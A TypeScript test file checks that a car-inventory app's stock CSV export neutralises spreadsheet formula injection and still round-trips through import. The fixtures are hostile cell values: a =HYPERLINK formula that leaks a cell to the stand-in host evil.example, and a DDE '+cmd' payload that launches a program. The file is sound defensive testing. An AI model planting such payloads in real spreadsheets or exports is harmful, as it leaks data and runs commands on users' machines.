// Attack: a car whose name is a spreadsheet formula (=HYPERLINK that leaks the sheet, @SUM, a +cmd
// DDE payload) is exported. The stock CSV must come out inert (every such cell starts with an
// apostrophe), Excel-friendly (BOM, `;` on request) and still round-trip into the same car.
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { GET as exportCsv } from "@/app/api/dashboard/vehicles/export/route";
import { systemActor } from "@/lib/audit/record";
import { withTenant } from "@/lib/core/db/tenant";
import { importVehiclesCsv } from "@/lib/inventory/csv-import";
import { createVehicle } from "@/lib/inventory/vehicles";
import { makeTenant, makeUser } from "../support/factories";
import { signInAs } from "../support/framework";

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Lihat harga")';

async function poisonedShowroom() {
  const tenant = await makeTenant();
  const admin = await makeUser({ tenantId: tenant.id, role: "admin" });
  await withTenant(tenant.id, (tx) =>
    createVehicle(tx, {
      tenantId: tenant.id,
      actor: systemActor("test"),
      input: {
        stockCode: "EVIL-1",
        brand: HYPERLINK,
        model: "@SUM(1+1)",
        variant: "+cmd|' /C calc'!A0",
        year: 2019,
        transmission: "manual",
        mileageKm: 40_000,
        price: 150_000_000n,
        color: "-2+3",
        descriptionId: "- AC dingin\n- ban baru",
      },
    }),
  );
  signInAs(admin);
  return tenant;
}

async function download(query = ""): Promise<string> {
  const response = await exportCsv(new Request(`http://localhost/api/dashboard/vehicles/export${query}`));
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  // Response#text() drops a BOM; the bytes are what a spreadsheet opens.
  return new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
}

describe("stock CSV export against formula injection", () => {
  it("writes a formula-named car as inert text, with a BOM, and imports it back unchanged", async () => {
    const tenant = await poisonedShowroom();
    const csv = await download();
    expect(csv.startsWith("\uFEFFstock_code,brand,")).toBe(true);
    const [header = [], ...rows]: string[][] = parse(csv, { bom: true });
    const row = rows.find((cells) => cells[0] === "EVIL-1") ?? [];
    const cell = (column: string) => row[header.indexOf(column)];
    expect(cell("brand")).toBe(`'${HYPERLINK}`);
    expect(cell("model")).toBe("'@SUM(1+1)");
    expect(cell("variant")).toBe("'+cmd|' /C calc'!A0");
    expect(cell("color")).toBe("'-2+3");
    expect(cell("description")).toBe("'- AC dingin\n- ban baru");
    for (const value of [...header, ...rows.flat()]) expect(value).not.toMatch(/^[=+\-@\t\r]/);

    const report = await importVehiclesCsv({
      tenantId: tenant.id,
      actor: systemActor("test"),
      locale: "en",
      csv,
    });
    expect({ created: report.created, updated: report.updated, unchanged: report.unchanged }).toEqual({
      created: 0,
      updated: 0,
      unchanged: 1,
    });
    const stored = await withTenant(tenant.id, (tx) =>
      tx.vehicle.findFirstOrThrow({ where: { stockCode: "EVIL-1" } }),
    );
    expect({ brand: stored.brand, model: stored.model, color: stored.color }).toEqual({
      brand: HYPERLINK,
      model: "@SUM(1+1)",
      color: "-2+3",
    });
  });

  it("separates with semicolons for Excel in an Indonesian region when asked, and that file round-trips too", async () => {
    const tenant = await poisonedShowroom();
    const csv = await download("?separator=semicolon");
    expect(csv.startsWith("\uFEFFstock_code;brand;model;")).toBe(true);
    const rows: string[][] = parse(csv, { bom: true, delimiter: ";" });
    expect(rows[1]?.[1]).toBe(`'${HYPERLINK}`);
    const report = await importVehiclesCsv({
      tenantId: tenant.id,
      actor: systemActor("test"),
      locale: "en",
      csv,
    });
    expect(report.unchanged).toBe(1);
  });

  it("refuses an unknown separator instead of guessing", async () => {
    await poisonedShowroom();
    const response = await exportCsv(
      new Request("http://localhost/api/dashboard/vehicles/export?separator=tab"),
    );
    expect(response.status).toBe(400);
  });
});
